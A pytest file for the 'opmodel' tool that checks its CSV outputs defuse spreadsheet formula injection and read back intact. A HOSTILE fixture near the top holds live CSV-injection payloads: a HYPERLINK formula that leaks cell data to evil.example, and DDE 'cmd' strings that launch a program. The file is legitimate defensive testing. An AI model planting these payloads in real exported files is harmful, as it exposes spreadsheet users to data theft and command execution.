"""Every CSV opmodel writes is safe to open in a spreadsheet (OWASP's CSV injection rule,
opmodel.csvsafe; docs/output.md): text that would start a formula gets a quote in front,
numbers stay numbers, a model folder reads the quote back off."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

import opmodel
from opmodel.cli import app
from opmodel.csvsafe import cell, dangerous, defuse, line, records, restore

HOSTILE = {
    "capability": '=HYPERLINK("http://evil.example/?"&A1,"Order capture")',
    "unit": "+cmd|' /C calc'!A0",
    "initiative": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "vendor": "\t=1+1",
    "description": "see Q3; =1+1",
}


def test_text_that_starts_a_formula_gets_a_quote_numbers_stay() -> None:
    for text in ("=1+1", "+1 555", "-x", "@SUM(A1)", "\t=1", "\rx", "  =1", "'=1", "-",
                 "''-x"):
        assert defuse(text) == "'" + text and restore(defuse(text)) == text
    for text in ("-120", "-0.25", "+3", "1e-05", "-1.5E+06", ".5", "2027-03-31", "n/a",
                 "'quoted'", "a=b", "", "Order capture"):
        assert defuse(text) == text and restore(text) == text
    assert line(["x", "-5", "=1", "a;=b", "a;b", 'say "hi"']) == \
        "x,-5,'=1,\"a;=b\",a;b,\"say \"\"hi\"\"\"\n"  # ';' is Excel's separator in many lands
    assert cell(0.1 + 0.2) == repr(0.1 + 0.2) and cell(12345678.0) == "12345678"
    assert cell(float("nan")) == cell(None) == "" and cell(["a", "b"]) == "a;b"
    assert records([], ["a", "b"]) == "a,b\n" and records([]) == ""


@given(st.text(alphabet=st.sampled_from("='+-@\t\r ;,\"ab1.eE"), max_size=8))
def test_restore_undoes_defuse_and_python_reads_what_was_meant(text: str) -> None:
    assert restore(defuse(text)) == text
    assert not dangerous(defuse(text))
    row = next(csv.reader(io.StringIO(line([text, "x"]), newline="")))
    assert [restore(c) for c in row] == [text, "x"]
    for part in re.split(r"[;\t]", row[0])[1:]:  # split as a ';' spreadsheet splits it
        assert not dangerous(part) or line([text]).startswith('"')


def test_safe_rows_are_written_byte_for_byte_as_before() -> None:
    """A model folder's files without such text keep their bytes (no diff in git)."""
    e = opmodel.load(Path(opmodel.__file__).parent / "examples" / "acme")
    from opmodel.io.folder import folder_files

    for name, text in folder_files(e):
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(text, newline="")))
            buf = io.StringIO(newline="")
            csv.writer(buf, lineterminator="\n").writerows(rows)
            assert text == buf.getvalue(), name


def _hostile(folder: Path) -> Path:
    """The starter model with text that a spreadsheet would run, in every kind of file."""
    def edit(name: str, old: str, new: str) -> None:
        p = folder / name
        text = p.read_text(encoding="utf-8")
        assert old in text, (name, old)
        p.write_text(text.replace(old, new, 1), encoding="utf-8")

    def yaml(text: str) -> str:
        return "'" + text.replace("'", "''") + "'"

    edit("capabilities.yaml", "name: Quoting and pricing", f"name: {yaml(HOSTILE['capability'])}")
    edit("enterprise.yaml", "name: North Region", f"name: {yaml(HOSTILE['unit'])}")
    edit("initiatives.yaml", "name: Configure-price-quote platform",
         f"name: {yaml(HOSTILE['initiative'])}")
    edit("applications.csv", "crm-n,CRM North,Salesforce,",
         f'crm-n,CRM North,"{HOSTILE["vendor"]}",')
    crm_s = "\ncrm-s,CRM South,Microsoft,south,crm;selling,90,2,2,active,,,,"
    edit("applications.csv", crm_s, f'{crm_s}"{HOSTILE["description"]}"')
    edit("assessments.csv", "marketing,north,2,3,1,stated,a.lee,2026-10-01,",
         f"marketing,north,2,3,1,stated,a.lee,2026-10-01,\"{HOSTILE['note']}\"")
    return folder


def _cells(path: Path) -> list[str]:
    rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
    return [c for row in rows for c in row]


def _safe(path: Path) -> None:
    for c in _cells(path):
        assert not dangerous(c), f"{path.name}: {c!r} would run as a formula"
        for part in re.split(r"[;\t]", c)[1:]:
            assert not dangerous(part) or '"' + c[:5] in path.read_text(), (path.name, c)


def test_every_csv_writer_defuses_and_the_folder_reads_it_back(starter_copy: Path,
                                                                tmp_path: Path) -> None:
    model = _hostile(starter_copy)
    e = opmodel.load(model)
    assert {c.name for c in e.capabilities} >= {HOSTILE["capability"]}
    runner = CliRunner()
    outs = tmp_path / "out"
    outs.mkdir()
    for args, name in ((["gaps", "-n", "50"], "gaps.csv"), (["apps"], "apps.csv"),
                       (["validate"], "validate.csv"), (["homogeneity"], "homogeneity.csv")):
        r = runner.invoke(app, [args[0], str(model), *args[1:], "-o", str(outs / name)])
        assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["plan", str(model), "--draws", "0", "--no-charts", "--dir",
                            str(outs / "plan")])
    assert r.exit_code == 0, r.output
    written = [*outs.glob("*.csv"), *(outs / "plan").glob("*.csv")]
    assert len(written) > 8
    texts = "".join(p.read_text(encoding="utf-8") for p in written)
    for text in (HOSTILE["capability"], HOSTILE["initiative"]):
        assert "'" + text.replace('"', '""') in texts  # there, as text
    for p in written:
        _safe(p)
    # a model folder written afresh (export to a workbook and import it again)
    back = tmp_path / "back"
    opmodel.api.import_model(opmodel.api.export_model(model, tmp_path / "m.xlsx"), back)
    for p in back.glob("*.csv"):
        _safe(p)
    assert "'" + HOSTILE["note"] in (back / "assessments.csv").read_text(encoding="utf-8")
    again = opmodel.load(back)  # the quote is read back off: the same model
    assert again == e
    assert [a.notes for a in again.assessments] == [a.notes for a in e.assessments]
    assert {a.vendor for a in again.applications} == {a.vendor for a in e.applications}


@pytest.mark.slow
def test_libreoffice_reads_no_formula_and_keeps_numbers(tmp_path: Path) -> None:
    """The real client: LibreOffice Calc opens the CSV and saves it as a workbook; the
    hostile cells are text there, the numbers numbers (the same file written raw, as
    before, held two live formulas)."""
    soffice = shutil.which("libreoffice") or shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice is required under CI (Debian: libreoffice-calc-nogui)")
        pytest.skip("LibreOffice is not installed")
    from openpyxl import load_workbook

    rows = [{"name": v, "amount": -120.5, "share": 0.25} for v in HOSTILE.values()]
    (tmp_path / "safe.csv").write_text(records(rows), encoding="utf-8")
    profile = (tmp_path / "lo-profile").as_uri()
    proc = subprocess.run([soffice, f"-env:UserInstallation={profile}", "--headless",
                           "--convert-to", "xlsx", "--outdir", str(tmp_path / "x"),
                           str(tmp_path / "safe.csv")],
                          capture_output=True, text=True, timeout=240)
    book = tmp_path / "x" / "safe.xlsx"
    assert book.exists(), proc.stdout + proc.stderr
    ws = load_workbook(book).active
    values = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(values) == len(HOSTILE)
    for (name, amount, share), text in zip(values, HOSTILE.values(), strict=True):
        assert isinstance(name, str) and not name.startswith("="), name  # not a formula
        assert name.lstrip("'").strip() == text.strip()
        assert (amount, share) == (-120.5, 0.25)


def test_a_survey_note_that_starts_a_formula_is_merged_defused(starter_copy: Path,
                                                               tmp_path: Path) -> None:
    """A BU lead's note '@ops: +2 next year' merged from a survey: assessments.csv holds it
    with the quote (only the unit's lines change), the model reads it as the lead typed it."""
    import datetime as dt

    from openpyxl import load_workbook

    from opmodel.io.survey import export_survey, merge_survey

    book = export_survey(starter_copy, "south", tmp_path / "s.xlsx", today=dt.date(2027, 1, 10))
    wb = load_workbook(book)
    ws = wb["Assessments"]
    row = next(c.row for c in ws["A"] if c.value == "crm")
    col = next(c.column_letter for c in ws[1] if c.value == "notes")
    ws[f"{col}{row}"] = "@ops: +2 next year"
    wb.save(book)
    before = (starter_copy / "assessments.csv").read_text(encoding="utf-8").splitlines()
    plan = merge_survey(starter_copy, book, today=dt.date(2027, 2, 1))
    assert plan.written and not plan.conflicts
    after = (starter_copy / "assessments.csv").read_text(encoding="utf-8").splitlines()
    changed = [b for a, b in zip(before, after, strict=True) if a != b]
    assert changed and all(",south," in line for line in changed)
    assert next(line for line in after if line.startswith("crm,south,")).endswith(
        ",'@ops: +2 next year")
    assert opmodel.load(starter_copy).assessment("crm", "south").notes == "@ops: +2 next year"
